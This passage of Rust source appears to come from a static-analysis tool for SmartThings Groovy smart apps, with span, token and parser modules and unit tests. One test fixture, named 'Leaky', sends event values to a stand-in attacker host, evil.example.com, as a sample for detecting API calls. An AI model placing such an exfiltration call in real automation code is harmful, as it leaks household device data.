        input "minutes", "number", title: "Minutes", required: false
    }
    section("Select 'heat' for a heater and 'cool' for an air conditioner ...") {
        input "mode", "enum", title: "Heating or cooling?", options: ["heat", "cool"]
    }
}

def installed() {
    initialize()
}

def updated() {
    unsubscribe()
    initialize()
}

def initialize() {
    subscribe(sensor, "temperature", temperatureHandler)
    subscribe(motion, "motion", motionHandler)
    runIn(600, checkMotion)
}

def temperatureHandler(evt) {
    if (evt.doubleValue > setpoint) {
        outlets.on()
    } else {
        outlets.off()
    }
}

def motionHandler(evt) {
    if (evt.value == "active") {
        outlets.on()
    }
}

def checkMotion() {
    outlets.off()
}
"#;

    #[test]
    fn extracts_metadata() {
        let app = SmartApp::parse(SAMPLE).unwrap();
        assert_eq!(app.metadata.name, "Virtual Thermostat");
        assert_eq!(app.metadata.namespace, "smartthings");
        assert_eq!(app.name(), "Virtual Thermostat");
    }

    #[test]
    fn extracts_inputs_with_kinds() {
        let app = SmartApp::parse(SAMPLE).unwrap();
        assert_eq!(app.inputs.len(), 6);
        let sensor = app.input("sensor").unwrap();
        assert_eq!(sensor.kind, InputKind::Capability("temperatureMeasurement".into()));
        assert!(sensor.required);
        assert!(!sensor.multiple);

        let outlets = app.input("outlets").unwrap();
        assert!(outlets.multiple);

        let motion = app.input("motion").unwrap();
        assert!(!motion.required);

        let mode = app.input("mode").unwrap();
        assert_eq!(mode.kind, InputKind::Enum(vec!["heat".into(), "cool".into()]));

        assert_eq!(app.device_inputs().count(), 3);
    }

    #[test]
    fn extracts_subscriptions() {
        let app = SmartApp::parse(SAMPLE).unwrap();
        assert_eq!(app.subscriptions.len(), 2);
        let temp = &app.subscriptions[0];
        assert_eq!(temp.source, SubscriptionSource::DeviceInput("sensor".into()));
        assert_eq!(temp.attribute, "temperature");
        assert_eq!(temp.value, None);
        assert_eq!(temp.handler, "temperatureHandler");
    }

    #[test]
    fn extracts_schedules() {
        let app = SmartApp::parse(SAMPLE).unwrap();
        assert_eq!(app.schedules.len(), 1);
        assert_eq!(app.schedules[0].handler, "checkMotion");
        assert_eq!(app.schedules[0].delay_seconds, Some(600));
    }

    #[test]
    fn handler_names_cover_subscriptions_and_schedules() {
        let app = SmartApp::parse(SAMPLE).unwrap();
        let names = app.handler_names();
        assert!(names.contains("temperatureHandler"));
        assert!(names.contains("motionHandler"));
        assert!(names.contains("checkMotion"));
        assert!(app.handler("temperatureHandler").is_some());
    }

    #[test]
    fn subscription_with_value_filter() {
        let src = r#"
definition(name: "Brighten My Path", namespace: "st", author: "a", description: "d")
preferences {
    section("When motion...") { input "motionSensor", "capability.motionSensor" }
    section("Turn on...") { input "lights", "capability.switch", multiple: true }
}
def installed() {
    subscribe(motionSensor, "motion.active", motionActiveHandler)
}
def motionActiveHandler(evt) {
    lights.on()
}
"#;
        let app = SmartApp::parse(src).unwrap();
        let sub = &app.subscriptions[0];
        assert_eq!(sub.attribute, "motion");
        assert_eq!(sub.value.as_deref(), Some("active"));
    }

    #[test]
    fn location_and_app_subscriptions() {
        let src = r#"
definition(name: "Unlock Door", namespace: "st", author: "a", description: "d")
preferences {
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() {
    subscribe(location, "mode", changedLocationMode)
    subscribe(app, "touch", appTouch)
}
def changedLocationMode(evt) { lock1.unlock() }
def appTouch(evt) { lock1.unlock() }
"#;
        let app = SmartApp::parse(src).unwrap();
        assert_eq!(app.subscriptions[0].source, SubscriptionSource::Location);
        assert_eq!(app.subscriptions[1].source, SubscriptionSource::App);
        assert_eq!(app.subscriptions[1].attribute, "touch");
    }

    #[test]
    fn schedule_cron_extracted() {
        let src = r#"
definition(name: "Nightly", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "lights", "capability.switch" } }
def installed() {
    schedule("0 0 22 * * ?", turnOff)
    runEvery15Minutes(poll)
}
def turnOff() { lights.off() }
def poll() { }
"#;
        let app = SmartApp::parse(src).unwrap();
        assert_eq!(app.schedules.len(), 2);
        assert_eq!(app.schedules[0].cron.as_deref(), Some("0 0 22 * * ?"));
        assert_eq!(app.schedules[1].delay_seconds, Some(900));
    }

    #[test]
    fn api_calls_detected() {
        let src = r#"
definition(name: "Leaky", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "phone", "phone" } }
def handler(evt) {
    sendSms(phone, "alert")
    httpPost("http://evil.example.com", evt.value)
    unsubscribe()
}
"#;
        let app = SmartApp::parse(src).unwrap();
        let calls = api_calls(app.script.method("handler").unwrap());
        assert!(calls.contains("sendSms"));
        assert!(calls.contains("httpPost"));
        assert!(calls.contains("unsubscribe"));
    }

    #[test]
    fn input_missing_name_is_error() {
        let src = r#"
preferences {
    section("bad") { input }
}
"#;
        // `input` with no arguments parses as a bare variable reference, so it
        // is simply not collected as an input declaration.
        let app = SmartApp::parse(src).unwrap();
        assert!(app.inputs.is_empty());
    }

    #[test]
    fn settings_prefixed_subscription_source() {
        let src = r#"
def initialize() {
    subscribe(settings.door, "contact.open", doorHandler)
}
def doorHandler(evt) { }
"#;
        let app = SmartApp::parse(src).unwrap();
        assert_eq!(app.subscriptions[0].source, SubscriptionSource::DeviceInput("door".into()));
    }
}
