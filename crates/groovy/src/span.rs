//! Source locations and spans.
//!
//! Every token and AST node carries a [`Span`] so that diagnostics (and the
//! violation logs produced downstream) can point back at the smart-app source,
//! mirroring how Bandera renders Spin error trails at the source level.

use std::fmt;

/// A half-open byte range `[start, end)` into a single source file, together
/// with the 1-based line on which the range starts.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub struct Span {
    /// Byte offset of the first character.
    pub start: usize,
    /// Byte offset one past the last character.
    pub end: usize,
    /// 1-based line number of `start`.
    pub line: u32,
}

impl Span {
    /// Creates a new span.
    pub fn new(start: usize, end: usize, line: u32) -> Self {
        Span { start, end, line }
    }

    /// A zero-width span at the origin, used for synthesized nodes.
    pub fn synthetic() -> Self {
        Span { start: 0, end: 0, line: 0 }
    }

    /// Returns a span covering both `self` and `other`.
    pub fn merge(self, other: Span) -> Span {
        Span {
            start: self.start.min(other.start),
            end: self.end.max(other.end),
            line: if self.line == 0 { other.line } else { self.line.min(other.line.max(1)) },
        }
    }

    /// Length of the span in bytes.
    pub fn len(&self) -> usize {
        self.end.saturating_sub(self.start)
    }

    /// Returns true when the span is empty.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Extracts the spanned text from `source`, or an empty string when the
    /// span is out of range (e.g. synthetic spans).
    pub fn slice<'a>(&self, source: &'a str) -> &'a str {
        source.get(self.start..self.end).unwrap_or("")
    }
}

impl fmt::Display for Span {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "line {}", self.line)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn merge_takes_widest_range() {
        let a = Span::new(3, 7, 2);
        let b = Span::new(5, 12, 3);
        let m = a.merge(b);
        assert_eq!(m.start, 3);
        assert_eq!(m.end, 12);
        assert_eq!(m.line, 2);
    }

    #[test]
    fn slice_returns_text() {
        let src = "input \"sensor\"";
        let s = Span::new(0, 5, 1);
        assert_eq!(s.slice(src), "input");
    }

    #[test]
    fn slice_out_of_range_is_empty() {
        let s = Span::new(100, 120, 1);
        assert_eq!(s.slice("short"), "");
        assert!(Span::synthetic().is_empty());
    }

    #[test]
    fn display_shows_line() {
        assert_eq!(Span::new(0, 1, 42).to_string(), "line 42");
    }
}
