//! Token definitions for the Groovy subset used by SmartThings smart apps.

use crate::span::Span;
use std::fmt;

/// The kind of a lexical token.
///
/// Keyword and punctuation variants are named after the Groovy surface syntax
/// they represent and carry no payload.
#[allow(missing_docs)]
#[derive(Debug, Clone, PartialEq)]
pub enum TokenKind {
    // Literals
    /// Integer literal, e.g. `42`.
    Int(i64),
    /// Decimal literal, e.g. `75.5`.
    Decimal(f64),
    /// Single- or double-quoted string. GString interpolation is preserved as
    /// raw text; the parser splits `${...}` parts.
    Str(String),
    /// `true` / `false`.
    Bool(bool),
    /// `null`.
    Null,

    /// Identifier (variable, method or property name).
    Ident(String),

    // Keywords
    Def,
    If,
    Else,
    While,
    For,
    In,
    Return,
    Break,
    Continue,
    Private,
    Public,
    Protected,
    Static,
    Final,
    New,
    Switch,
    Case,
    Default,
    Try,
    Catch,
    Finally,
    Throw,
    Instanceof,
    Import,
    As,

    // Punctuation
    LParen,
    RParen,
    LBrace,
    RBrace,
    LBracket,
    RBracket,
    Comma,
    Dot,
    /// Safe navigation `?.`
    SafeDot,
    /// Method pointer / spread-safe access `*.` (treated like `.` downstream).
    SpreadDot,
    Colon,
    Semicolon,
    Question,
    /// Elvis operator `?:`
    Elvis,
    Arrow,

    // Operators
    Assign,
    PlusAssign,
    MinusAssign,
    StarAssign,
    SlashAssign,
    Plus,
    Minus,
    Star,
    Slash,
    Percent,
    Power,
    Not,
    EqEq,
    NotEq,
    Lt,
    Gt,
    Le,
    Ge,
    /// Spaceship `<=>`
    Compare,
    AndAnd,
    OrOr,
    BitAnd,
    BitOr,
    /// Range `..`
    Range,
    PlusPlus,
    MinusMinus,
    /// Annotation marker `@`
    At,

    /// End of a logical line. Groovy is newline-sensitive: a newline ends a
    /// statement unless the line is obviously continued.
    Newline,
    /// End of input.
    Eof,
}

impl TokenKind {
    /// Returns the keyword kind for `word`, if it is a reserved word.
    pub fn keyword(word: &str) -> Option<TokenKind> {
        Some(match word {
            "def" => TokenKind::Def,
            "if" => TokenKind::If,
            "else" => TokenKind::Else,
            "while" => TokenKind::While,
            "for" => TokenKind::For,
            "in" => TokenKind::In,
            "return" => TokenKind::Return,
            "break" => TokenKind::Break,
            "continue" => TokenKind::Continue,
            "private" => TokenKind::Private,
            "public" => TokenKind::Public,
            "protected" => TokenKind::Protected,
            "static" => TokenKind::Static,
            "final" => TokenKind::Final,
            "new" => TokenKind::New,
            "switch" => TokenKind::Switch,
            "case" => TokenKind::Case,
            "default" => TokenKind::Default,
            "try" => TokenKind::Try,
            "catch" => TokenKind::Catch,
            "finally" => TokenKind::Finally,
            "throw" => TokenKind::Throw,
            "instanceof" => TokenKind::Instanceof,
            "import" => TokenKind::Import,
            "as" => TokenKind::As,
            "true" => TokenKind::Bool(true),
            "false" => TokenKind::Bool(false),
            "null" => TokenKind::Null,
            _ => return None,
        })
    }

    /// True for tokens that can start an expression; used by the lexer to
    /// decide whether a newline terminates the current statement.
    pub fn can_start_expression(&self) -> bool {
        matches!(
            self,
            TokenKind::Int(_)
                | TokenKind::Decimal(_)
                | TokenKind::Str(_)
                | TokenKind::Bool(_)
                | TokenKind::Null
                | TokenKind::Ident(_)
                | TokenKind::LParen
                | TokenKind::LBracket
                | TokenKind::LBrace
                | TokenKind::Not
                | TokenKind::Minus
                | TokenKind::New
        )
    }

    /// True for tokens after which a newline never ends the statement
    /// (binary operators, commas, opening brackets, dots, ...).
    pub fn continues_line(&self) -> bool {
        matches!(
            self,
            TokenKind::Comma
                | TokenKind::Dot
                | TokenKind::SafeDot
                | TokenKind::SpreadDot
                | TokenKind::Plus
                | TokenKind::Minus
                | TokenKind::Star
                | TokenKind::Slash
                | TokenKind::Percent
                | TokenKind::Assign
                | TokenKind::PlusAssign
                | TokenKind::MinusAssign
                | TokenKind::StarAssign
                | TokenKind::SlashAssign
                | TokenKind::EqEq
                | TokenKind::NotEq
                | TokenKind::Lt
                | TokenKind::Gt
                | TokenKind::Le
                | TokenKind::Ge
                | TokenKind::AndAnd
                | TokenKind::OrOr
                | TokenKind::BitAnd
                | TokenKind::BitOr
                | TokenKind::Question
                | TokenKind::Elvis
                | TokenKind::Colon
                | TokenKind::Arrow
                | TokenKind::LParen
                | TokenKind::LBracket
                | TokenKind::LBrace
                | TokenKind::Instanceof
        )
    }
}

impl fmt::Display for TokenKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            TokenKind::Int(v) => write!(f, "{v}"),
            TokenKind::Decimal(v) => write!(f, "{v}"),
            TokenKind::Str(s) => write!(f, "\"{s}\""),
            TokenKind::Bool(b) => write!(f, "{b}"),
            TokenKind::Null => write!(f, "null"),
            TokenKind::Ident(s) => write!(f, "{s}"),
            TokenKind::Newline => write!(f, "<newline>"),
            TokenKind::Eof => write!(f, "<eof>"),
            other => write!(f, "{other:?}"),
        }
    }
}

/// A single lexical token with its source span.
#[derive(Debug, Clone, PartialEq)]
pub struct Token {
    /// What kind of token this is.
    pub kind: TokenKind,
    /// Where it came from.
    pub span: Span,
}

impl Token {
    /// Creates a new token.
    pub fn new(kind: TokenKind, span: Span) -> Self {
        Token { kind, span }
    }

    /// Returns the identifier name when this token is an identifier.
    pub fn ident(&self) -> Option<&str> {
        match &self.kind {
            TokenKind::Ident(s) => Some(s),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keyword_lookup() {
        assert_eq!(TokenKind::keyword("def"), Some(TokenKind::Def));
        assert_eq!(TokenKind::keyword("true"), Some(TokenKind::Bool(true)));
        assert_eq!(TokenKind::keyword("subscribe"), None);
    }

    #[test]
    fn expression_starters() {
        assert!(TokenKind::Ident("x".into()).can_start_expression());
        assert!(TokenKind::Int(1).can_start_expression());
        assert!(!TokenKind::RBrace.can_start_expression());
    }

    #[test]
    fn line_continuation_tokens() {
        assert!(TokenKind::Comma.continues_line());
        assert!(TokenKind::AndAnd.continues_line());
        assert!(!TokenKind::Ident("x".into()).continues_line());
        assert!(!TokenKind::RParen.continues_line());
    }

    #[test]
    fn token_ident_accessor() {
        let t = Token::new(TokenKind::Ident("motion".into()), Span::synthetic());
        assert_eq!(t.ident(), Some("motion"));
        let t = Token::new(TokenKind::Int(3), Span::synthetic());
        assert_eq!(t.ident(), None);
    }

    #[test]
    fn display_is_readable() {
        assert_eq!(TokenKind::Ident("foo".into()).to_string(), "foo");
        assert_eq!(TokenKind::Str("bar".into()).to_string(), "\"bar\"");
        assert_eq!(TokenKind::Eof.to_string(), "<eof>");
    }
}
