//! Recursive-descent parser for the Groovy subset used by SmartThings apps.
//!
//! The parser understands the constructs that appear in real smart apps:
//! `definition(...)` metadata, `preferences { section { input ... } }` blocks,
//! lifecycle methods (`installed`, `updated`, `initialize`), event handlers,
//! closures, GStrings, list/map literals, command calls without parentheses
//! (e.g. `input "motion", "capability.motionSensor"`), trailing closures and
//! the usual operators.  Anything outside the subset produces a structured
//! [`ParseError`] pointing at the offending line.

use crate::ast::*;
use crate::error::{ParseError, Result};
use crate::lexer::tokenize;
use crate::span::Span;
use crate::token::{Token, TokenKind};

/// Parses a complete smart-app source file into a [`Script`].
pub fn parse(source: &str) -> Result<Script> {
    let tokens = tokenize(source)?;
    Parser::new(tokens).parse_script()
}

/// Parses a single expression (used for GString interpolations and tests).
pub fn parse_expression(source: &str) -> Result<Expr> {
    let tokens = tokenize(source)?;
    let mut p = Parser::new(tokens);
    p.skip_separators();
    let e = p.parse_expr()?;
    p.skip_separators();
    p.expect_eof()?;
    Ok(e)
}

struct Parser {
    tokens: Vec<Token>,
    pos: usize,
}

impl Parser {
    fn new(tokens: Vec<Token>) -> Self {
        Parser { tokens, pos: 0 }
    }

    // ---- token plumbing ------------------------------------------------

    fn peek(&self) -> &TokenKind {
        &self.tokens[self.pos.min(self.tokens.len() - 1)].kind
    }

    fn peek_at(&self, off: usize) -> &TokenKind {
        let idx = (self.pos + off).min(self.tokens.len() - 1);
        &self.tokens[idx].kind
    }

    fn peek_span(&self) -> Span {
        self.tokens[self.pos.min(self.tokens.len() - 1)].span
    }

    fn bump(&mut self) -> Token {
        let tok = self.tokens[self.pos.min(self.tokens.len() - 1)].clone();
        if self.pos < self.tokens.len() - 1 {
            self.pos += 1;
        }
        tok
    }

    fn at(&self, kind: &TokenKind) -> bool {
        self.peek() == kind
    }

    fn eat(&mut self, kind: &TokenKind) -> bool {
        if self.at(kind) {
            self.bump();
            true
        } else {
            false
        }
    }

    fn expect(&mut self, kind: &TokenKind) -> Result<Token> {
        if self.at(kind) {
            Ok(self.bump())
        } else {
            Err(ParseError::new(
                format!("expected {kind}, found {}", self.peek()),
                self.peek_span(),
            ))
        }
    }

    fn expect_ident(&mut self) -> Result<(String, Span)> {
        match self.peek().clone() {
            TokenKind::Ident(name) => {
                let span = self.peek_span();
                self.bump();
                Ok((name, span))
            }
            // Allow keywords that SmartThings uses as plain identifiers in
            // property positions (e.g. `evt.default`).
            TokenKind::Default => {
                let span = self.peek_span();
                self.bump();
                Ok(("default".to_string(), span))
            }
            other => Err(ParseError::new(
                format!("expected identifier, found {other}"),
                self.peek_span(),
            )),
        }
    }

    fn expect_eof(&mut self) -> Result<()> {
        if self.at(&TokenKind::Eof) {
            Ok(())
        } else {
            Err(ParseError::new(
                format!("expected end of input, found {}", self.peek()),
                self.peek_span(),
            ))
        }
    }

    /// Skips statement separators (newlines and semicolons).
    fn skip_separators(&mut self) {
        while matches!(self.peek(), TokenKind::Newline | TokenKind::Semicolon) {
            self.bump();
        }
    }

    /// Skips newlines only — used where a separator must not end the construct.
    fn skip_newlines(&mut self) {
        while matches!(self.peek(), TokenKind::Newline) {
            self.bump();
        }
    }

    // ---- script level ---------------------------------------------------

    fn parse_script(&mut self) -> Result<Script> {
        let mut items = Vec::new();
        self.skip_separators();
        while !self.at(&TokenKind::Eof) {
            // Skip `import a.b.c` lines entirely.
            if self.at(&TokenKind::Import) {
                while !matches!(
                    self.peek(),
                    TokenKind::Newline | TokenKind::Semicolon | TokenKind::Eof
                ) {
                    self.bump();
                }
                self.skip_separators();
                continue;
            }
            // Skip annotations such as `@Field`.
            while self.at(&TokenKind::At) {
                self.bump();
                let _ = self.expect_ident()?;
                self.skip_newlines();
            }
            if self.looks_like_method_decl() {
                items.push(Item::Method(self.parse_method_decl()?));
            } else {
                items.push(Item::Stmt(self.parse_stmt()?));
            }
            self.skip_separators();
        }
        Ok(Script { items })
    }

    /// Lookahead: `[modifiers] (def | Type) name ( ... ) {` at the current position.
    fn looks_like_method_decl(&self) -> bool {
        let mut i = 0;
        // modifiers
        while matches!(
            self.peek_at(i),
            TokenKind::Private
                | TokenKind::Public
                | TokenKind::Protected
                | TokenKind::Static
                | TokenKind::Final
        ) {
            i += 1;
        }
        let modifier_count = i;
        // return type: `def` or an identifier, optionally with [] suffixes.
        // With modifiers the return type may be omitted entirely
        // (`private onSwitches() { ... }`).
        match self.peek_at(i) {
            TokenKind::Def => i += 1,
            TokenKind::Ident(_) => {
                if modifier_count > 0 && *self.peek_at(i + 1) == TokenKind::LParen {
                    // `private name(` — the identifier is the method name.
                    return self.scan_params_then_brace(i + 1);
                }
                i += 1;
                while *self.peek_at(i) == TokenKind::LBracket
                    && *self.peek_at(i + 1) == TokenKind::RBracket
                {
                    i += 2;
                }
            }
            _ => return false,
        }
        // method name
        if !matches!(self.peek_at(i), TokenKind::Ident(_)) {
            return false;
        }
        i += 1;
        self.scan_params_then_brace(i)
    }

    /// Lookahead helper: from offset `i` (which must be at `(`), scans over a
    /// balanced parameter list and reports whether a `{` follows.
    fn scan_params_then_brace(&self, mut i: usize) -> bool {
        if *self.peek_at(i) != TokenKind::LParen {
            return false;
        }
        // find matching RParen (flat scan; params never nest parens in practice,
        // but default values might, so track depth)
        let mut depth = 0usize;
        loop {
            match self.peek_at(i) {
                TokenKind::LParen => depth += 1,
                TokenKind::RParen => {
                    depth -= 1;
                    if depth == 0 {
                        i += 1;
                        break;
                    }
                }
                TokenKind::Eof => return false,
                _ => {}
            }
            i += 1;
        }
        // body must open with `{` (possibly after newlines)
        loop {
            match self.peek_at(i) {
                TokenKind::Newline => i += 1,
                TokenKind::LBrace => return true,
                _ => return false,
            }
        }
    }

    fn parse_modifiers(&mut self) -> Modifiers {
        let mut m = Modifiers::default();
        loop {
            match self.peek() {
                TokenKind::Private => {
                    m.private = true;
                    self.bump();
                }
                TokenKind::Public | TokenKind::Protected | TokenKind::Final => {
                    self.bump();
                }
                TokenKind::Static => {
                    m.is_static = true;
                    self.bump();
                }
                _ => break,
            }
        }
        m
    }

    fn parse_type_name(&mut self) -> Result<TypeName> {
        let (name, _) = self.expect_ident()?;
        let mut dims = 0;
        while self.at(&TokenKind::LBracket) && *self.peek_at(1) == TokenKind::RBracket {
            self.bump();
            self.bump();
            dims += 1;
        }
        // Ignore generic parameters like `List<String>`.
        if self.at(&TokenKind::Lt) {
            let mut depth = 0;
            loop {
                match self.peek() {
                    TokenKind::Lt => {
                        depth += 1;
                        self.bump();
                    }
                    TokenKind::Gt => {
                        depth -= 1;
                        self.bump();
                        if depth == 0 {
                            break;
                        }
                    }
                    TokenKind::Eof => break,
                    _ => {
                        self.bump();
                    }
                }
            }
        }
        Ok(TypeName { name, array_dims: dims })
    }

    fn parse_method_decl(&mut self) -> Result<MethodDecl> {
        let start = self.peek_span();
        let modifiers = self.parse_modifiers();
        let return_type = if self.at(&TokenKind::Def) {
            self.bump();
            None
        } else if matches!(self.peek(), TokenKind::Ident(_))
            && *self.peek_at(1) == TokenKind::LParen
        {
            // `private name(...)` — the return type was omitted.
            None
        } else {
            Some(self.parse_type_name()?)
        };
        // When `Type name(` was actually `def`-less `name(` this is still an
        // identifier; the lookahead guarantees shape.
        let (name, _) = self.expect_ident()?;
        self.expect(&TokenKind::LParen)?;
        let mut params = Vec::new();
        self.skip_newlines();
        while !self.at(&TokenKind::RParen) {
            params.push(self.parse_param()?);
            self.skip_newlines();
            if !self.eat(&TokenKind::Comma) {
                break;
            }
            self.skip_newlines();
        }
        self.expect(&TokenKind::RParen)?;
        self.skip_newlines();
        let body = self.parse_block()?;
        let span = start.merge(body.span);
        Ok(MethodDecl { name, return_type, params, body, modifiers, span })
    }

    fn parse_param(&mut self) -> Result<Param> {
        // `def x`, `Type x`, or plain `x`; optionally `= default`.
        let mut ty = None;
        if self.at(&TokenKind::Def) {
            self.bump();
        } else if matches!(self.peek(), TokenKind::Ident(_))
            && matches!(self.peek_at(1), TokenKind::Ident(_))
        {
            ty = Some(self.parse_type_name()?);
        }
        let (name, _) = self.expect_ident()?;
        let default = if self.eat(&TokenKind::Assign) { Some(self.parse_expr()?) } else { None };
        Ok(Param { name, ty, default })
    }

    fn parse_block(&mut self) -> Result<Block> {
        let open = self.expect(&TokenKind::LBrace)?;
        let mut stmts = Vec::new();
        self.skip_separators();
        while !self.at(&TokenKind::RBrace) {
            if self.at(&TokenKind::Eof) {
                return Err(ParseError::new("unterminated block", open.span));
            }
            stmts.push(self.parse_stmt()?);
            self.skip_separators();
        }
        let close = self.expect(&TokenKind::RBrace)?;
        Ok(Block { stmts, span: open.span.merge(close.span) })
    }

    // ---- statements -----------------------------------------------------

    fn parse_stmt(&mut self) -> Result<Stmt> {
        self.skip_separators();
        match self.peek().clone() {
            TokenKind::If => self.parse_if(),
            TokenKind::While => self.parse_while(),
            TokenKind::For => self.parse_for(),
            TokenKind::Switch => self.parse_switch(),
            TokenKind::Try => self.parse_try(),
            TokenKind::Return => {
                let span = self.peek_span();
                self.bump();
                if matches!(
                    self.peek(),
                    TokenKind::Newline | TokenKind::Semicolon | TokenKind::RBrace | TokenKind::Eof
                ) {
                    Ok(Stmt::Return(None, span))
                } else {
                    let e = self.parse_expr()?;
                    let span = span.merge(e.span());
                    Ok(Stmt::Return(Some(e), span))
                }
            }
            TokenKind::Break => {
                let span = self.peek_span();
                self.bump();
                Ok(Stmt::Break(span))
            }
            TokenKind::Continue => {
                let span = self.peek_span();
                self.bump();
                Ok(Stmt::Continue(span))
            }
            TokenKind::Def => self.parse_var_decl(None),
            TokenKind::Private
            | TokenKind::Public
            | TokenKind::Protected
            | TokenKind::Static
            | TokenKind::Final => {
                // Field declaration with modifiers, e.g. `private def foo = 1`.
                self.parse_modifiers();
                if self.at(&TokenKind::Def) {
                    self.parse_var_decl(None)
                } else {
                    let ty = self.parse_type_name()?;
                    self.parse_var_decl(Some(ty))
                }
            }
            TokenKind::Ident(_) if self.looks_like_typed_decl() => {
                let ty = self.parse_type_name()?;
                self.parse_var_decl(Some(ty))
            }
            _ => self.parse_expr_or_assign_stmt(),
        }
    }

    /// Lookahead for `Type name =` / `Type name` declarations (e.g. `Integer idx = 0`).
    fn looks_like_typed_decl(&self) -> bool {
        let known_types = [
            "Integer",
            "int",
            "Long",
            "long",
            "Double",
            "double",
            "Float",
            "float",
            "BigDecimal",
            "String",
            "Boolean",
            "boolean",
            "Number",
            "Object",
            "List",
            "Map",
            "ArrayList",
            "HashMap",
            "Date",
        ];
        let TokenKind::Ident(name) = self.peek() else { return false };
        if !known_types.contains(&name.as_str()) {
            return false;
        }
        matches!(self.peek_at(1), TokenKind::Ident(_))
            && matches!(
                self.peek_at(2),
                TokenKind::Assign | TokenKind::Newline | TokenKind::Semicolon
            )
    }

    fn parse_var_decl(&mut self, ty: Option<TypeName>) -> Result<Stmt> {
        let start = self.peek_span();
        if ty.is_none() {
            self.expect(&TokenKind::Def)?;
        }
        let (name, _) = self.expect_ident()?;
        let init = if self.eat(&TokenKind::Assign) {
            self.skip_newlines();
            Some(self.parse_expr()?)
        } else {
            None
        };
        let span = init.as_ref().map(|e| start.merge(e.span())).unwrap_or(start);
        Ok(Stmt::VarDecl { ty, name, init, span })
    }

    fn parse_if(&mut self) -> Result<Stmt> {
        let start = self.expect(&TokenKind::If)?.span;
        self.expect(&TokenKind::LParen)?;
        let cond = self.parse_expr()?;
        self.expect(&TokenKind::RParen)?;
        self.skip_newlines();
        let then_block = self.parse_block_or_single_stmt()?;
        // `else` may be preceded by a newline.
        let save = self.pos;
        self.skip_separators();
        let else_block = if self.at(&TokenKind::Else) {
            self.bump();
            self.skip_newlines();
            if self.at(&TokenKind::If) {
                let nested = self.parse_if()?;
                let span = nested.span();
                Some(Block { stmts: vec![nested], span })
            } else {
                Some(self.parse_block_or_single_stmt()?)
            }
        } else {
            self.pos = save;
            None
        };
        let end = else_block.as_ref().map(|b| b.span).unwrap_or(then_block.span);
        Ok(Stmt::If { cond, then_block, else_block, span: start.merge(end) })
    }

    fn parse_block_or_single_stmt(&mut self) -> Result<Block> {
        if self.at(&TokenKind::LBrace) {
            self.parse_block()
        } else {
            let stmt = self.parse_stmt()?;
            let span = stmt.span();
            Ok(Block { stmts: vec![stmt], span })
        }
    }

    fn parse_while(&mut self) -> Result<Stmt> {
        let start = self.expect(&TokenKind::While)?.span;
        self.expect(&TokenKind::LParen)?;
        let cond = self.parse_expr()?;
        self.expect(&TokenKind::RParen)?;
        self.skip_newlines();
        let body = self.parse_block_or_single_stmt()?;
        let span = start.merge(body.span);
        Ok(Stmt::While { cond, body, span })
    }

    fn parse_for(&mut self) -> Result<Stmt> {
        let start = self.expect(&TokenKind::For)?.span;
        self.expect(&TokenKind::LParen)?;
        // Only the `for (x in e)` form is supported; SmartThings apps use
        // closures (`each`) for other iteration styles.
        if self.at(&TokenKind::Def) {
            self.bump();
        }
        let (var, _) = self.expect_ident()?;
        self.expect(&TokenKind::In)?;
        let iterable = self.parse_expr()?;
        self.expect(&TokenKind::RParen)?;
        self.skip_newlines();
        let body = self.parse_block_or_single_stmt()?;
        let span = start.merge(body.span);
        Ok(Stmt::ForIn { var, iterable, body, span })
    }

    fn parse_switch(&mut self) -> Result<Stmt> {
        let start = self.expect(&TokenKind::Switch)?.span;
        self.expect(&TokenKind::LParen)?;
        let subject = self.parse_expr()?;
        self.expect(&TokenKind::RParen)?;
        self.skip_newlines();
        self.expect(&TokenKind::LBrace)?;
        let mut cases = Vec::new();
        let mut default = None;
        self.skip_separators();
        while !self.at(&TokenKind::RBrace) {
            if self.eat(&TokenKind::Case) {
                let value = self.parse_expr()?;
                self.expect(&TokenKind::Colon)?;
                let body = self.parse_case_body()?;
                cases.push(SwitchCase { value, body });
            } else if self.eat(&TokenKind::Default) {
                self.expect(&TokenKind::Colon)?;
                default = Some(self.parse_case_body()?);
            } else {
                return Err(ParseError::new(
                    format!("expected 'case' or 'default', found {}", self.peek()),
                    self.peek_span(),
                ));
            }
            self.skip_separators();
        }
        let end = self.expect(&TokenKind::RBrace)?.span;
        Ok(Stmt::Switch { subject, cases, default, span: start.merge(end) })
    }

    fn parse_case_body(&mut self) -> Result<Block> {
        let start = self.peek_span();
        let mut stmts = Vec::new();
        self.skip_separators();
        while !matches!(
            self.peek(),
            TokenKind::Case | TokenKind::Default | TokenKind::RBrace | TokenKind::Eof
        ) {
            if self.at(&TokenKind::Break) {
                self.bump();
                self.skip_separators();
                break;
            }
            stmts.push(self.parse_stmt()?);
            self.skip_separators();
        }
        Ok(Block { stmts, span: start })
    }

    fn parse_try(&mut self) -> Result<Stmt> {
        let start = self.expect(&TokenKind::Try)?.span;
        self.skip_newlines();
        let body = self.parse_block()?;
        self.skip_separators();
        self.expect(&TokenKind::Catch)?;
        if self.eat(&TokenKind::LParen) {
            // `catch (Exception e)` — type and variable are ignored.
            while !self.at(&TokenKind::RParen) && !self.at(&TokenKind::Eof) {
                self.bump();
            }
            self.expect(&TokenKind::RParen)?;
        }
        self.skip_newlines();
        let catch = self.parse_block()?;
        self.skip_separators();
        if self.eat(&TokenKind::Finally) {
            self.skip_newlines();
            // A `finally` block is parsed and appended to the catch block.
            let _fin = self.parse_block()?;
        }
        let span = start.merge(catch.span);
        Ok(Stmt::TryCatch { body, catch, span })
    }

    fn parse_expr_or_assign_stmt(&mut self) -> Result<Stmt> {
        // Command-call syntax: `input "x", "capability.y", title: "T"` or
        // `sendPush "message"` — an identifier directly followed by the start
        // of an argument list (not an operator, not `(`).
        if let TokenKind::Ident(name) = self.peek().clone() {
            if self.is_command_call_start() {
                let span = self.peek_span();
                self.bump();
                let args = self.parse_call_args_no_parens()?;
                let closure = if self.at(&TokenKind::LBrace) {
                    Some(Box::new(self.parse_closure()?))
                } else {
                    None
                };
                return Ok(Stmt::Expr(Expr::MethodCall {
                    object: None,
                    name,
